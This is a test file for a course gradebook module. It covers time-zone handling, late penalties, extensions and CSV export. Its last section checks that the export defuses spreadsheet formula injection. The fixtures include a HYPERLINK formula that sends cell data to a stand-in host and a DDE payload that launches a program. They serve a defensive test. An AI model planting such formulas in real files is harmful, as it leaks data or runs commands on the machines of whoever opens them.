import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { buildGradebook, gradebookCsv, type GradebookItem } from "./gradebook.ts";
import { parseLocalDateTime, formatInZone } from "./dates.ts";

const learners = [
  { id: "u1", email: "ada@example.org", name: "Ada", section: "A" },
  { id: "u2", email: "alan@example.org", name: "Alan", section: "B" },
];
const due = parseLocalDateTime("2026-12-01T23:59", "Europe/Paris");
const items: GradebookItem[] = [
  { exerciseId: "dense", title: "Dense layer", maxScore: 10, dueAt: due, policy: { kind: "penalty", percentPerDay: 10 } },
  { exerciseId: "mse", title: "MSE", maxScore: 10, dueAt: null, policy: { kind: "none" } },
];

describe("dates", () => {
  it("reads wall-clock time in the course's time zone", () => {
    expect(due.toISOString()).toBe("2026-12-01T22:59:00.000Z");
    expect(formatInZone(due, "America/New_York")).toBe("2026-12-01 17:59 EST");
    expect(() => parseLocalDateTime("2026-12-01T23:59", "Mars/Olympus")).toThrow(/unknown time zone "Mars\/Olympus"/);
    expect(() => parseLocalDateTime("tomorrow", "UTC")).toThrow(/not a date and time/);
  });
});

describe("gradebook", () => {
  const subs = [
    { userId: "u1", exerciseId: "dense", createdAt: new Date("2026-12-01T10:00:00Z"), score: 6, maxScore: 10 },
    { userId: "u1", exerciseId: "dense", createdAt: new Date("2026-12-02T10:00:00Z"), score: 10, maxScore: 10 }, // 1 day late: 9
    { userId: "u1", exerciseId: "mse", createdAt: new Date("2026-12-05T10:00:00Z"), score: null, maxScore: null }, // not graded yet
    { userId: "u2", exerciseId: "mse", createdAt: new Date("2026-12-03T10:00:00Z"), score: 5, maxScore: 10 },
  ];
  it("keeps the best late-adjusted score, attempts and last time per cell", () => {
    const rows = buildGradebook(learners, items, subs);
    expect(rows[0].cells.dense).toMatchObject({ best: 9, bestRaw: 10, attempts: 2, late: true });
    expect(rows[0].cells.mse).toMatchObject({ best: null, attempts: 1 });
    expect(rows[0].total).toBe(9);
    expect(rows[1].cells.dense).toMatchObject({ best: null, attempts: 0, lastAt: null });
    expect(rows[1].total).toBe(5);
  });
  it("an extension lifts the late penalty", () => {
    const rows = buildGradebook(learners, items, subs, new Map([["u1:dense", new Date("2026-12-03T00:00:00Z")]]));
    expect(rows[0].cells.dense).toMatchObject({ best: 10, late: false });
  });
  it("exports CSV an LMS imports: identifying columns, one per exercise, total", () => {
    const csv = parse(gradebookCsv(buildGradebook(learners, items, subs), items)) as string[][];
    expect(csv).toEqual([
      ["Email", "Name", "Section", "Dense layer (10)", "MSE (10)", "Total"],
      ["ada@example.org", "Ada", "A", "9", "", "9"],
      ["alan@example.org", "Alan", "B", "", "5", "5"],
    ]);
  });
});

describe("CSV export is formula-safe (OWASP CSV injection)", () => {
  it("prefixes every text cell that a spreadsheet would run as a formula with a quote", () => {
    const evil = [
      { id: "u1", email: "ada@example.org", name: '=HYPERLINK("http://evil.example/?"&A1,"click")', section: "+1" },
      { id: "u2", email: "@alan@example.org", name: "-2+3", section: "\tA" },
      { id: "u3", email: "grace@example.org", name: "\r=1+1", section: "B" },
    ];
    const csv = parse(gradebookCsv(buildGradebook(evil, items, [{ userId: "u1", exerciseId: "dense", createdAt: new Date("2026-12-01T10:00:00Z"), score: 9, maxScore: 10 }]), [{ ...items[0], title: "=cmd|' /C calc'!A0" }])) as string[][];
    expect(csv[0][3]).toBe("'=cmd|' /C calc'!A0 (10)");
    expect(csv[1].slice(0, 3)).toEqual(["ada@example.org", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1"]);
    expect(csv[2].slice(0, 3)).toEqual(["'@alan@example.org", "'-2+3", "'\tA"]);
    expect(csv[3][1]).toBe("'\r=1+1");
    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv[1][3]).toBe("9"); // scores stay numbers
  });
  it("leaves numbers, including negative ones, as numbers", async () => {
    const { safeCsv } = await import("./csv.ts");
    expect(safeCsv([[-3, "-3", "a=b", ""]])).toBe("-3,'-3,a=b,\n");
  });
});
